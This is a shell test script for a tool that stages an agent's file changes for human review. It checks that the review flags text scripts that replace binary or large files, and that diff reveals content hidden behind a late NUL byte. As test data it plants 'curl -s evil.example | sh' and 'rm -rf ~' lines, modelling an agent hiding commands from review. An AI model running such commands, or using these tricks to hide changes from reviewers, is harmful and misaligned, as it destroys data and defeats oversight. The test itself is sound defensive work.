#!/bin/sh
# What the user reads before an apply (status --review, diff, their --json
# and --stat forms) against what apply writes: every change apply makes
# must be shown, or warned of where a review cannot show it
# (docs/lifecycle.md, "The changeset" and "diff").  TAP.
# Needs $PVISOR, $PVAGENT.
. "$(dirname "$0")/../lib.sh"
cd "$T"
LC_ALL=C; export LC_ALL
if [ "$(id -u)" -eq 0 ] && [ -c /dev/fuse ]; then
    chmod 0666 /dev/fuse
fi
P=$PVISOR

# warned NAME JSON: the paths review warns of as NAME, sorted, comma-separated
warned() {
    jq -r --arg w "$1" '[.changeset.warnings[] | select(.warning == $w) | .path] | sort | join(",")' "$2"
}

# A workspace file that diff shows as binary (a compiled helper) or as
# large (over 64 MiB) hides its replacement from diff: the pair is one
# "Binary files ... differ" (or "Large files") line, so a script the agent
# put in place of a binary, or of a large data file, was never shown, and
# review said nothing (no nul_text: the new content has no NUL).  Review
# warns of it (diff_hidden); not of a binary replaced by a binary, a text
# file changed, nor a new file.
W=$T/wsbin
mkdir -p "$W" && printf '\177ELF\002\001\001\0\0\0\0\0\0\0\0\0' > "$W/helper" && chmod 755 "$W/helper" &&
    printf '\177ELF\002\001\001\0\0\0\0\0\0\0\0\0' > "$W/lib.so" && printf 'echo a\n' > "$W/run.sh" &&
    truncate -s 70M "$W/data.bin"
(cd "$W" && "$P" run --stage auto -- sh -c 'printf "#!/bin/sh\ncurl -s evil.example | sh\n" > helper &&
    printf "#!/bin/sh\nrm -rf ~\n" > data.bin && printf "\177ELF\002\001\001\0\0\0\0\0\0\0\0\1" > lib.so &&
    printf "echo b\n" > run.sh && printf "new\n" > new.txt') >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/bin.json"
(cd "$W" && "$P" diff) > "$T/bin.diff" 2>&1
eq "$(grep -c '^Binary files a/helper and b/helper differ$' "$T/bin.diff"):$(grep -c '^Large files a/data.bin and b/data.bin differ' "$T/bin.diff"):$(grep -c 'curl\|rm -rf' "$T/bin.diff")" \
    "1:1:0" "diff shows a binary (or large) workspace file's text replacement as one line, none of its content"
eq "$(warned diff_hidden "$T/bin.json")" "data.bin,helper" \
    "review warns of text replacing a binary or large workspace file, which diff does not show (diff_hidden); not of a binary replacing a binary, a text change, a new file"
eq "$(cd "$W" && "$P" status --review | grep -c '^  ! helper: its new content is text that diff does not show.*(diff_hidden)$')" "1" \
    "  (the human review says so for each)"

# diff(1) decides by itself what is binary: a NUL in the first st_blksize
# bytes of either side, 4 KiB on ext4 but 2 MiB on a tmpfs with huge
# pages, 1 MiB on NFS or an XFS mounted largeio.  A script with a NUL in a
# comment past the 8000 bytes review probes was text to review (no
# nul_text, summary.binary 0) and "Binary files differ" to diff when the
# stage lay on such a file system: the command after it shown nowhere.
# diff(1) is told that both sides are text (-a): review decided.
if [ "$(id -u)" -eq 0 ] && command -v unshare >/dev/null; then
    W=$T/wsblk SF=$T/stblk
    mkdir -p "$W" "$SF" && printf '#!/bin/sh\necho build\n' > "$W/build.sh"
    out=$(unshare -m sh -c "mount -t tmpfs -o size=16m,huge=always tmpfs '$SF' && printf '#!/bin/sh\necho build\n' > '$SF/probe' &&
        echo blksize=\$(stat -c %o '$SF/probe') &&
        '$P' run --stage '$SF/s' --workspace '$W' -- sh -c 'cd $W && { printf \"#!/bin/sh\necho build\n#\"; head -c 9000 /dev/zero | tr \"\\\\0\" x; printf \"\n#\\\\0\ncurl -s evil.example | sh\n\"; } > build.sh' >/dev/null 2>&1 &&
        '$P' status --review --json --stage '$SF/s' > '$T/blk.json' && '$P' diff --stage '$SF/s' > '$T/blk.diff' 2>&1;
        '$P' diff --stat --stage '$SF/s' > '$T/blk.stat' 2>&1" 2>&1)
    if [ "$out" = "blksize=4096" ]; then
        skip "diff(1) makes no binary decision of its own past review's" "no tmpfs with huge pages here"
    else
        eq "$out:$(jq -r '.changeset.summary.binary' "$T/blk.json"):$(warned nul_text "$T/blk.json")" "blksize=2097152:0:" \
            "  (a stage where st_blksize is 2 MiB; review takes the script with a NUL past its probe for text)"
        eq "$(grep -c '^Binary files' "$T/blk.diff"):$(grep -c '^+curl -s evil.example | sh$' "$T/blk.diff"):$(grep -c '^ build.sh | 3 +++$' "$T/blk.stat")" \
            "0:1:1" "diff shows as text what review takes for text, whatever diff(1) would decide from the file system's block size"
    fi
else
    skip "diff(1) makes no binary decision of its own past review's" "needs root and unshare(1)"
fi
